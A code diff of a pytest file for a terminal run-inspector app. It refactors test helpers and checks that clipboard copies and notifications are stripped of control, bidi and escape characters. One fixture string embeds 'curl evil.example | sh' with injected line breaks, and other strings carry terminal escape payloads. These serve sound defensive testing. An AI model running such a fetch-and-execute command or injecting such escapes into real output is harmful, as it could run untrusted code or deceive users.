@@ -14,14 +14,13 @@ import re
 from typing import Any
 
 import pytest
-from textual.pilot import Pilot
-from textual.widgets import Static
 
 from run_inspector.source import FileSource, RunSource
-from run_inspector.ui.app import InspectorApp, make_app
+from run_inspector.ui.app import make_app
 from run_inspector.ui.feed import OnSnapshot, OnStatus
 
 from .helpers import execution, node, run_of
+from .ui_helpers import notices, ready, static_text
 
 SIZE = (120, 36)
 UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
@@ -33,21 +32,6 @@ EVIL_RUN = "run-evil\r\ncurl evil.example | sh\x1b[2J"
 @pytest.fixture(autouse=True)
 def no_animations(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("textual.constants.TEXTUAL_ANIMATIONS", "none")
-
-
-async def ready(pilot: Pilot[None]) -> InspectorApp:
-    app = pilot.app
-    assert isinstance(app, InspectorApp)
-    for _ in range(300):
-        if app.graph is not None and app.run_tree.cursor_node is not None:
-            break
-        await pilot.pause(0.01)
-    await pilot.pause()
-    return app
-
-
-def notices(app: InspectorApp) -> list[str]:
-    return [n.message for n in app._notifications]
 
 
 def evil_source() -> FileSource:
@@ -65,7 +49,7 @@ def evil_source() -> FileSource:
 async def test_c_and_shift_c_copy_one_clean_line_and_say_the_id_was_changed() -> None:
     app = make_app(evil_source())
     async with app.run_test(size=SIZE, notifications=True) as pilot:
-        await ready(pilot)
+        await ready(pilot, tries=300)
         app._go_to(f"n:{EVIL_NODE}")
         await pilot.pause()
         await pilot.press("c")
@@ -86,7 +70,7 @@ async def test_c_and_shift_c_copy_one_clean_line_and_say_the_id_was_changed() ->
 async def test_a_plain_id_is_copied_as_it_is(failed_source: FileSource) -> None:
     app = make_app(failed_source)
     async with app.run_test(size=SIZE, notifications=True) as pilot:
-        await ready(pilot)
+        await ready(pilot, tries=300)
         await pilot.press("c")
         assert app.clipboard == "n-sync"
         assert notices(app)[-1] == "Copied node uuid n-sync"
@@ -95,7 +79,7 @@ async def test_a_plain_id_is_copied_as_it_is(failed_source: FileSource) -> None:
 async def test_y_and_the_why_view_copy_text_without_control_characters() -> None:
     app = make_app(evil_source())
     async with app.run_test(size=SIZE, notifications=True) as pilot:
-        await ready(pilot)
+        await ready(pilot, tries=300)
         app._go_to(f"n:{EVIL_NODE}")
         await pilot.press("4", "y")  # the Output pane: its JSON, C1 and bidi characters in a string
         copied = app.clipboard
@@ -112,7 +96,7 @@ async def test_every_copy_is_cleaned_even_a_selection() -> None:
     """The clipboard's one door: whatever copies (a text selection too) goes through `clean`."""
     app = make_app(evil_source())
     async with app.run_test(size=SIZE) as pilot:
-        await ready(pilot)
+        await ready(pilot, tries=300)
         app.copy_to_clipboard("line one\nline two \x1b]0;PWNED\x07\x9b2J\u202e end")
         assert app.clipboard.startswith("line one\nline two ")
         assert not UNSAFE.search(app.clipboard.replace("\n", "")) and "PWNED" not in app.clipboard
@@ -145,10 +129,6 @@ class ExplodingPoller:
     def stop(self) -> None: ...
 
 
-def static_text(app: InspectorApp, selector: str) -> str:
-    return str(app.main.query_one(selector, Static).render())
-
-
 async def test_a_crashing_feed_is_reported_cleaned_and_cut(failed_source: FileSource) -> None:
     app = make_app(failed_source, poller_factory=ExplodingPoller)
     async with app.run_test(size=SIZE, notifications=True) as pilot:
@@ -170,7 +150,7 @@ async def test_a_crashing_feed_is_reported_cleaned_and_cut(failed_source: FileSo
 async def test_notify_cleans_whatever_it_is_given(failed_source: FileSource) -> None:
     app = make_app(failed_source)
     async with app.run_test(size=SIZE, notifications=True) as pilot:
-        await ready(pilot)
+        await ready(pilot, tries=300)
         app.notify("a \x1b[2Jb\nc\x07" + "y" * 100_000, title="t\x1b]0;PWNED\x07")
         await pilot.pause()
         shown = list(app._notifications)[-1]
